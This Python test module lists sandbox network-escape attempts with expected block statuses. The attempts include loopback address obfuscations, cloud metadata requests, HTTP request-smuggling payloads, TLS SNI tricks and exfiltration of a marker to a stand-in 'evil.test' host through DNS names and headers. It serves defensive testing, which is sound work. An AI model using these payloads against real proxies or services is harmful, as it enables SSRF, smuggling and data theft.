"""Attempts to reach more than a network list permits, each as Python that a command runs inside.

Each tries to send ``MARK`` to a place that is not listed, or to a listed one in a part of a request
that must not arrive there. ``network_escape_rig`` has the servers that would notice it.

Those that use the proxy end with the statuses of its answers; ``alert`` is one of TLS.
"""

from __future__ import annotations

import textwrap

from escapes import ATTEMPTS as EVERY_SANDBOX
from escapes import Attempt

REBOUND = {
    "loopback": ["127.0.0.1"],
    "unspecified": ["0.0.0.0"],
    "ipv6-loopback": ["::1"],
    "link-local": ["169.254.169.254"],
    "ipv6-link-local": ["fe80::1%lo"],
    "private": ["10.1.2.3"],
    "mapped": ["::ffff:127.0.0.1"],
    "nat64": ["64:ff9b::7f00:1"],
    "mixed": ["93.184.216.34", "127.0.0.1"],
}
"""What a resolver answers for the listed names ``REBOUND.rebound.test``."""

HELPERS = r'''
import re
MARK, LISTED = os.environ["MARK"], os.environ["LISTED"]
PROXY, TCP, TCP6, UDP6 = (int(os.environ[name]) for name in ("GATE", "TCP", "TCP6", "UDP6"))
PATHS = os.environ["PATHS"]
EVIL, NAME = MARK + ".evil.test", LISTED.partition(":")[0]
NPM, TRACKER = "npm.wink.internal", "tracker.wink.internal"


def data(piece):
    return piece if isinstance(piece, bytes) else piece.encode("utf-8")


def proxied(*pieces):
    """Send each piece once the one before has an answer, and report the statuses."""
    received = b""
    with socket.create_connection(("127.0.0.1", PROXY), 10) as client:
        client.settimeout(10)
        try:
            for piece in pieces:
                client.sendall(data(piece))
                received += client.recv(65536)
            client.shutdown(socket.SHUT_WR)
        except ConnectionError:
            pass
        try:
            while piece := client.recv(65536):
                received += piece
        except ConnectionError:
            pass
    found = [status.decode() for status in re.findall(rb"HTTP/1\.[01] (\d+)", received)]
    if b"\x15\x03\x03\x00\x02\x02\x70" in received:
        found.append("alert")
    raise Stopped(" ".join(found) or "no answer")


def request(method, target, *headers, host=NPM, body=""):
    hosts = (f"Host: {host}",) if host else ()
    return "\r\n".join((f"{method} {target} HTTP/1.1", *hosts, *headers, "", body))


def tunnel(target, *headers, host=""):
    return request("CONNECT", target, *headers, host=host or target)


def post(*headers, body, path="/x"):
    return request("POST", path, *headers, host=TRACKER, body=body)


def hidden(target=EVIL):
    """A request that a parser may take for the one after another."""
    return f"GET http://{target}/{MARK} HTTP/1.1\r\nHost: {target}\r\n\r\n"


def hello(*names, more=b""):
    """A TLS greeting."""
    entries = b"".join(struct.pack("!BH", 0, len(name)) + name.encode() for name in names)
    joined = more
    if names:
        joined += struct.pack("!HHH", 0, len(entries) + 2, len(entries)) + entries
    body = b"\x03\x03" + bytes(32) + b"\0\0\x02\x13\x01\x01\0" + struct.pack("!H", len(joined)) + joined
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def asked(name):
    """A question for a name server."""
    labels = b"".join(bytes((len(each),)) + each.encode() for each in name.split("."))
    return struct.pack("!6H", 1, 256, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 16, 1)


def sent(family, address, kind=socket.SOCK_STREAM, content=MARK):
    """Send to a socket and wait for its answer."""
    with socket.socket(family, kind) as trial:
        trial.settimeout(3)
        trial.connect(address)
        trial.sendall(data(content))
        if family != socket.AF_UNIX:
            trial.recv(100)
'''

DIRECT = "ECONNREFUSED|ENETUNREACH|EADDRNOTAVAIL|EPERM|EACCES|EAFNOSUPPORT"

SOCKETS = {
    "a server on loopback": ("sent(socket.AF_INET, ('127.0.0.1', TCP))", DIRECT),
    "a server on the loopback of IPv6": ("sent(socket.AF_INET6, ('::1', TCP6))", DIRECT),
    "a server at a mapped address": ("sent(socket.AF_INET6, ('::ffff:127.0.0.1', TCP))", DIRECT),
    "a server at no address": ("sent(socket.AF_INET, ('0.0.0.0', TCP))", DIRECT),
    "a server with the first packet": (
        """
        with socket.socket() as trial:
            trial.sendto(MARK.encode(), 0x20000000, ("127.0.0.1", TCP))
            trial.recv(100)
        """,
        DIRECT,
    ),
    "a datagram": ("sent(socket.AF_INET, ('127.0.0.1', UDP), socket.SOCK_DGRAM)", DIRECT),
    "a datagram of IPv6": ("sent(socket.AF_INET6, ('::1', UDP6), socket.SOCK_DGRAM)", DIRECT),
    "a question to a name server": (
        "sent(socket.AF_INET, ('127.0.0.1', UDP), socket.SOCK_DGRAM, asked(EVIL))",
        DIRECT,
    ),
    "a question to a name server over TCP": (
        "sent(socket.AF_INET, ('127.0.0.1', TCP), content=b'\\0\\x40' + asked(EVIL))",
        DIRECT,
    ),
    "a socket by its path": ("sent(socket.AF_UNIX, PATHS + '/stream')", "ENOENT"),
    "a datagram to a path": ("sent(socket.AF_UNIX, PATHS + '/datagram', socket.SOCK_DGRAM)", "ENOENT"),
    "an abstract socket": ("sent(socket.AF_UNIX, chr(0) + ABSTRACT)", "ECONNREFUSED|EPERM"),
    "a datagram to an abstract socket": (
        "sent(socket.AF_UNIX, chr(0) + ABSTRACT + '-datagram', socket.SOCK_DGRAM)",
        "ECONNREFUSED|EPERM",
    ),
    "the list of sockets in /proc": (
        """
        ports = [line.split()[1].rpartition(":")[2] for line in open("/proc/net/tcp") if ":" in line]
        if f"{TCP:04X}" in ports:
            sys.exit("ESCAPED")
        raise Stopped("not listed")
        """,
        "Stopped not listed",
    ),
    "the list of names in /proc": (
        """
        if "@" + ABSTRACT in open("/proc/net/unix").read():
            sys.exit("ESCAPED")
        raise Stopped("not listed")
        """,
        "Stopped not listed",
    ),
    "the list of sockets by netlink": (
        """
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as trial:
            wanted = struct.pack("=BBBxI48x", socket.AF_INET, 6, 0, 0xFFFFFFFF)
            trial.send(struct.pack("=IHHII", 16 + len(wanted), 20, 0x301, 1, 0) + wanted)
            answer, at, ports = trial.recv(65536), 0, []
            while at + 22 <= len(answer):
                length, kind = struct.unpack_from("=IH", answer, at)
                if kind == 20:
                    ports.append(struct.unpack_from("!H", answer, at + 20)[0])
                at += length
        if TCP in ports:
            sys.exit("ESCAPED")
        raise Stopped("not listed")
        """,
        "Stopped not listed|EPERM|EPROTONOSUPPORT|ENOSYS",
    ),
}  # fmt: skip
"""Without the proxy."""

TARGETS = {
    "a name that is not listed": "{EVIL}:443",
    "the listed name at another port": "{NAME}:{TCP}",
    "the listed name in capitals at another port": "{NAME.upper()}:{TCP}",
    "the listed name with a final dot at another port": "{NAME}.:{TCP}",
    "the listed name with two final dots": "{NAME}..:{TCP}",
    "a name below the listed one": "{MARK}.{LISTED}",
    "a name that ends with the listed one": "{MARK}-{LISTED}",
    "a name that begins with the listed one": "{NAME}.{EVIL}:443",
    "a pattern": "*.test:{TCP}",
    "a pattern of one label": "*:{TCP}",
    "localhost": "localhost:{TCP}",
    "localhost with a final dot": "LOCALHOST.:{TCP}",
    "loopback": "127.0.0.1:{TCP}",
    "loopback with a final dot": "127.0.0.1.:{TCP}",
    "loopback, short": "127.1:{TCP}",
    "loopback, a number": "2130706433:{TCP}",
    "loopback, hexadecimal": "0x7f000001:{TCP}",
    "loopback, hexadecimal parts": "0x7f.0.0.0x1:{TCP}",
    "loopback, octal": "0177.0.0.01:{TCP}",
    "zero": "0:{TCP}",
    "the unspecified address": "0.0.0.0:{TCP}",
    "loopback of IPv6": "[::1]:{TCP6}",
    "loopback of IPv6, long": "[0000:0000:0000:0000:0000:0000:0000:0001]:{TCP6}",
    "a mapped address": "[::ffff:127.0.0.1]:{TCP}",
    "a mapped address, hexadecimal": "[::ffff:7f00:1]:{TCP}",
    "a compatible address": "[::127.0.0.1]:{TCP}",
    "an address with a zone": "[fe80::1%25lo]:{TCP}",
    "a metadata service": "169.254.169.254:80",
    "an address with full stops of Asia": "127\u30020\u30020\u30021:{TCP}",
    "full-width letters": "\uff4cocalhost:{TCP}",
    "a name in Unicode": "l\u043ecalhost:{TCP}",
    "a name in punycode": "xn--lcalhost-44g.{EVIL}:{TCP}",
    "a name of 300 characters": "{'a.' * 140}{EVIL}:{TCP}",
    "a label of 80 characters": "{'a' * 80}.{EVIL}:{TCP}",
    "a port over 65,535": "{NAME}:{65536 + TCP}",
    "a port with a sign": "{NAME}:+{TCP}",
    "a port in Unicode": "{NAME}:\uff14\uff14\uff13",
    "a user and a name": "{NAME}@{EVIL}:443",
    "a password and an address": "{LISTED}@127.0.0.1:{TCP}",
    "a path": "{LISTED}/@{EVIL}:443",
    "an encoded NUL": "{NAME}%00.{EVIL}:443",
    "a list of names": "{NAME},{EVIL}:443",
    "a name of the proxy without a list": "debian.wink.internal:80",
}
"""Tunnels."""

REQUESTS = {
    # names
    "tunnel with Host of the listed name": ("tunnel(EVIL + ':443', host=LISTED), MARK", "400"),
    "tunnel with Host of another name": ("tunnel(LISTED, host=EVIL), hello(NAME) + MARK.encode()", "400"),
    "URL of another name than Host": ("request('GET', f'http://{EVIL}/')", "400"),
    "Host of another name than the URL": ("request('GET', f'http://{NPM}/', host=EVIL)", "400"),
    "two Hosts": ("request('GET', '/', f'Host: {EVIL}')", "400"),
    "two Hosts, the listed one last": ("request('GET', '/', f'Host: {NPM}', host=EVIL)", "400"),
    "Host with a user": ("request('GET', '/', host=f'{NPM}@{EVIL}')", "403"),
    "Host with two names": ("request('GET', '/', host=f'{NPM}, {EVIL}')", "403"),
    "Host with another port": ("request('GET', '/x', f'User-Agent: {MARK}', host=f'{NPM}:{TCP}')", "200"),
    "URL with a user": ("request('GET', f'http://{NPM}@{EVIL}/')", "403"),
    "URL with a password": ("request('GET', f'http://{NPM}:80@{EVIL}/', host='')", "400"),
    "URL with a backslash": (r"request('GET', f'http://{NPM}\\@{EVIL}/')", "403"),
    "URL with a fragment": ("request('GET', f'http://{NPM}#@{EVIL}/')", "403"),
    "URL without a scheme": ("request('GET', f'//{EVIL}/')", "400"),
    "URL of https": ("request('GET', f'https://{EVIL}/', host=EVIL)", "400"),
    "URL of a WebSocket": ("request('GET', f'ws://{EVIL}/', 'Upgrade: websocket', host=EVIL)", "400"),
    "URL in plain text of the listed name": ("request('GET', f'http://{NAME}/{MARK}', host=NAME)", "403"),
    "X-Forwarded-Host": ("request('GET', '/x', f'X-Forwarded-Host: {EVIL}')", "200"),
    # heads that two parsers read differently
    "line feed in a header": ("request('GET', '/x', f'X: a\\nHost: {EVIL}')", "400"),
    "carriage return in a header": ("request('GET', '/x', f'X: a\\rHost: {EVIL}')", "400"),
    "NUL in a header": ("request('GET', '/x', f'X: a\\0{MARK}')", "400"),
    "folded header": ("request('GET', '/x', 'X: a', f' Host: {EVIL}')", "400"),
    "space before a colon": ("request('GET', '/x', f'Host : {EVIL}')", "400"),
    "encoded line feed in the path": ("request('GET', f'/x%0d%0aX:{MARK}')", "400"),
    "path out of the registry": (
        "request('GET', f'/root/simple/../../{MARK}', host='pypi.wink.internal')", "400",
    ),
    "encoded path out of the registry": (
        "request('GET', f'/root/%2e%2e/{MARK}', host='pypi.wink.internal')", "400",
    ),
    "both lengths": (
        "post('Content-Length: 5', 'Transfer-Encoding: chunked', body='0\\r\\n\\r\\n' + hidden())", "400",
    ),
    "both lengths in the other order": (
        "post('Transfer-Encoding: chunked', 'Content-Length: 5', body='0\\r\\n\\r\\n' + hidden())", "400",
    ),
    "two lengths": ("post('Content-Length: 1', 'Content-Length: 99', body='x' + hidden())", "400"),
    "length with a sign": ("post('Content-Length: +1', body='x' + hidden())", "400"),
    "two encodings": ("post('Transfer-Encoding: chunked, identity', body='0\\r\\n\\r\\n' + hidden())", "400"),
    "encoding with a tab": ("post('Transfer-Encoding:\\x0bchunked', body='0\\r\\n\\r\\n' + hidden())", "400|501"),
    "length of a chunk with a sign": (
        "post('Transfer-Encoding: chunked', body='+1\\r\\nx\\r\\n0\\r\\n\\r\\n' + hidden())", "400|502",
    ),
    # more after a permitted request
    "second request behind the first": ("request('GET', '/x') + hidden()", "200"),
    "second request after the answer": ("request('GET', '/x', 'Connection: keep-alive'), hidden()", "200"),
    "second request of the same name": ("request('GET', '/x'), hidden(NPM)", "200"),
    "request behind a body": ("post('Content-Length: 1', body='x' + hidden(TRACKER))", "200"),
    "request behind the last chunk": (
        "post('Transfer-Encoding: chunked', body='1\\r\\nx\\r\\n0\\r\\n\\r\\n' + hidden(TRACKER))", "200",
    ),
    "request in the trailer of a body": (
        "post('Transfer-Encoding: chunked', body=f'1\\r\\nx\\r\\n0\\r\\nX: {MARK}\\r\\n\\r\\n')", "200",
    ),
    "tunnel after a request": ("request('GET', '/x'), tunnel(EVIL + ':443')", "200"),
    "frames of a WebSocket": (
        "request('GET', '/x', 'Connection: Upgrade', 'Upgrade: websocket', host=TRACKER), MARK", "200",
    ),
    "HTTP/2 by an upgrade": (
        "request('GET', '/x', 'Upgrade: h2c', f'HTTP2-Settings: {MARK}', host=TRACKER)", "200",
    ),
    "HTTP/2 at once": ("b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + MARK.encode()", "505"),
    # what a registry or a service must not get
    "credentials for the proxy": ("request('GET', '/x', f'Proxy-Authorization: Basic {MARK}')", "200"),
    "credentials for a registry": ("request('GET', '/x', f'Authorization: Bearer {MARK}')", "200"),
    "other credentials for a service": ("post(f'Authorization: {MARK}', 'Content-Length: 0', body='')", "200"),
    "header that names itself as of the connection": (
        "post('Connection: X-Data', f'X-Data: {MARK}', 'Content-Length: 0', body='')", "200",
    ),
    "cookie for a registry": ("request('GET', '/x', f'Cookie: a={MARK}')", "200"),
    "data in the name of the client": ("request('GET', '/x', f'User-Agent: {MARK}')", "200"),
    "body for a registry": ("request('GET', '/x', f'Content-Length: {len(MARK)}', body=MARK)", "400"),
    "upload to a registry": ("request('PUT', '/' + MARK, 'Content-Length: 0')", "405"),
    "upload in disguise": ("request('POST', '/' + MARK, 'X-HTTP-Method-Override: GET')", "405"),
    # in a tunnel to the listed name
    "text in a tunnel": ("tunnel(LISTED), hidden()", "200 alert"),
    "tunnel in a tunnel": ("tunnel(LISTED), tunnel(EVIL + ':443')", "200 alert"),
    "HTTP/2 in a tunnel": ("tunnel(LISTED), 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + MARK", "200 alert"),
    "SSH in a tunnel": ("tunnel(LISTED), f'SSH-2.0-{MARK}\\r\\n'", "200 alert"),
    "greeting of another name": ("tunnel(LISTED), hello(EVIL)", "200 alert"),
    "greeting of two names": ("tunnel(LISTED), hello(NAME, EVIL)", "200 alert"),
    "greeting of an address": ("tunnel(LISTED), hello('127.0.0.1') + MARK.encode()", "200 alert"),
    "greeting of no name": (
        "tunnel(LISTED), hello(more=struct.pack('!HH', 21, len(MARK)) + MARK.encode())", "200 alert",
    ),
    "encrypted greeting": (
        "tunnel(LISTED), hello(NAME, more=struct.pack('!HH', 0xFE0D, len(MARK)) + MARK.encode())", "200 alert",
    ),
}  # fmt: skip
"""What the proxy gets, piece by piece, and the statuses of its answers."""

PROGRAMS = {
    "redirect to another name": (
        """
        import urllib.error, urllib.request
        handler = urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{PROXY}"})
        try:
            urllib.request.build_opener(handler).open(f"http://{NPM}/redirected", timeout=10)
        except urllib.error.HTTPError as error:
            raise Stopped(error.code)
        """,
        "Stopped 403",
    ),
    "data for a name that the resolver would get": (
        "proxied(tunnel(f'{MARK.encode().hex()}.{EVIL}:443'))",
        "Stopped 403",
    ),
}


def _attempt(name: str, code: str, by: str) -> Attempt:
    return Attempt(name, HELPERS + textwrap.dedent(code), by)


ATTEMPTS = {
    **{f"sockets: {name}": _attempt(name, *attempt) for name, attempt in SOCKETS.items()},
    **{
        f"tunnel: {name}": _attempt(
            name, f"proxied(tunnel(f{target!r}), MARK)", "Stopped (400|403)"
        )
        for name, target in TARGETS.items()
    },
    **{
        f"rebound: {name}": _attempt(
            name,
            f"name = {name!r} + '.rebound.test'\n"
            "proxied(tunnel(f'{name}:{TCP}'), hello(name) + MARK.encode())",
            "Stopped (403|502)",
        )
        for name in REBOUND
    },
    **{
        f"request: {name}": _attempt(name, f"proxied({pieces})", f"Stopped ({statuses})")
        for name, (pieces, statuses) in REQUESTS.items()
    },
    **{f"program: {name}": _attempt(name, *attempt) for name, attempt in PROGRAMS.items()},
}
"""Each succeeds without a sandbox, as ``network_escape_rig`` shows."""

ALSO_WITH_A_LIST = {
    name: attempt for name, attempt in EVERY_SANDBOX.items() if name.startswith("network: ")
}
"""Attempts of a sandbox without a list; with one they must fail, too."""
